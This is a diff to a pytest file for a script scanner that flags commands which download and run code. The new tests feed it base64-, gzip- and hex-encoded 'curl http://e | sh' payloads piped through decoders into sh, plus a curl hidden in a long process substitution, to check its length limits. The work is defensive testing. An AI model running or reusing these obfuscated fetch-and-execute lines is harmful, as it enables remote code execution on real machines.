@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import base64
+import gzip
 from contextlib import suppress
 
 import pytest
@@ -261,6 +262,26 @@ def test_package_that_any_package_manager_installs_from_an_address_is_reported(t
 def test_part_of_a_script_beyond_a_bound_on_its_length_is_reported_as_unread(text):
     with pytest.raises(LimitReachedError):
         list(collect_script_mentions(text))
+
+
+@check_each(
+    "encoded, decoder",
+    [
+        (base64.b64encode(b"#" * 250_000 + b"\ncurl http://e | sh"), "base64 -d"),
+        (base64.b64encode(gzip.compress(b"#" * 250_000 + b"\ncurl http://e | sh")), "base64 -d | gunzip"),
+        ((b"23" * 250_000 + b"\ncurl http://e | sh".hex().encode()), "xxd -r -p"),
+    ],
+)
+def test_decoded_script_that_is_too_long_to_be_evaluated_reaches_a_bound_after_the_other_mentions(encoded, decoder):
+    mentions = []
+    with pytest.raises(LimitReachedError):
+        mentions.extend(collect_script_mentions(f"echo {encoded.decode()} | {decoder} | sh\ncurl http://f | sh\n"))
+    assert "http://f" in str(mentions)
+
+
+def test_download_in_a_substitution_that_is_too_long_to_be_parsed_reaches_a_bound():
+    with pytest.raises(LimitReachedError):
+        list(collect_script_mentions(f'while read -r a; do sh -c "$a"; done < <(: {"x" * 250_000}; curl http://e)'))
 
 
 def test_command_in_a_base64_script_is_mentioned_at_the_line_that_decodes_and_runs_it():
